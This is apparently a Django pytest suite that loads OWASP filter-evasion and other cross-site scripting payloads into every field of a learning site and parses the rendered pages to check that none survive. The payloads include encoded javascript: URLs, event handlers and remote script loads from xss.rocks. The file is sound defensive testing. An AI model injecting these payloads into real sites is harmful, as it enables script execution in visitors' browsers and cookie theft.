"""Known XSS vectors, OWASP filter-evasion cases among them, in every field the site renders."""

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from model_bakery import baker

from core.models import Status
from tests.core.test_markdown import XSS_VECTORS

OWASP_FILTER_EVASION = [
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" '
    'CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<svg/onload=alert("XSS")>',
    "[a](javascript&#58;alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039">x</a>',
]
VECTORS = XSS_VECTORS + OWASP_FILTER_EVASION
DANGEROUS_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "base",
    "meta",
    "style",
    "img",
    "form",
    "link",
}
ALLOWED_PAGE_TAGS = {"meta", "link", "form"}  # the page's own, checked by attribute below


class Findings(HTMLParser):
    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag == "script" and (dict(attrs).get("src") or "").startswith("/static/js/"):
            return  # the page's own script file, from the portal's static files
        if tag in DANGEROUS_TAGS - ALLOWED_PAGE_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.problems.append("<meta http-equiv>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            compact = re.sub(r"[\s\x00-\x1f]", "", (value or "")).lower()
            if name in {"href", "src", "action", "background", "formaction"} and compact.startswith(
                ("javascript:", "vbscript:", "data:")
            ):
                self.problems.append(f"{tag} {name}={value}")
            if name == "style":
                self.problems.append(f"{tag} style=")


def problems_in(html):
    parser = Findings()
    parser.feed(html)
    return parser.problems


@pytest.fixture
def everything_hostile(db, source, superuser):
    def fill(vector):
        published = {"status": Status.PUBLISHED}
        article = baker.make(
            "articles.Article",
            slug="x",
            kind="explainer",
            title=vector,
            summary=vector,
            body=vector,
            **published,
        )
        article.sources.add(source)
        term = baker.make(
            "glossary.Term",
            slug="t",
            term=vector[:120],
            aliases="",
            short_definition=vector[:300],
            definition=vector,
        )
        course = baker.make(
            "courses.Course",
            slug="c",
            title=vector,
            summary=vector,
            description=vector,
            **published,
        )
        lesson = baker.make(
            "courses.Lesson",
            course=course,
            slug="l",
            position=1,
            title=vector,
            summary=vector,
            body=vector,
        )
        quiz = baker.make(
            "courses.Quiz",
            course=course,
            slug="q",
            title=vector,
            introduction=vector,
            after_lesson=lesson,
        )
        question = baker.make(
            "courses.Question", quiz=quiz, position=1, prompt=vector, explanation=vector
        )
        baker.make(
            "courses.Choice",
            question=question,
            position=1,
            text=vector[:500],
            feedback=vector[:500],
            is_correct=True,
        )
        return article, term, course, lesson, quiz

    return fill


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_reaches_any_page_alive(client, superuser, everything_hostile, vector):
    article, term, course, lesson, quiz = everything_hostile(vector)
    client.force_login(superuser)
    page = client.get(quiz.get_absolute_url()).content.decode()
    token = re.search(r'name="token" value="([^"]+)"', page).group(1)
    question = quiz.questions.get()
    result = client.post(quiz.get_absolute_url(), {"token": token, f"question_{question.pk}": "1"})
    urls = [
        article.get_absolute_url(),
        reverse("articles:article_list"),
        term.get_absolute_url(),
        reverse("glossary:term_list"),
        course.get_absolute_url(),
        reverse("courses:course_list"),
        lesson.get_absolute_url(),
        quiz.get_absolute_url(),
        result.url,
        reverse("home"),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert problems_in(response.content.decode()) == [], url
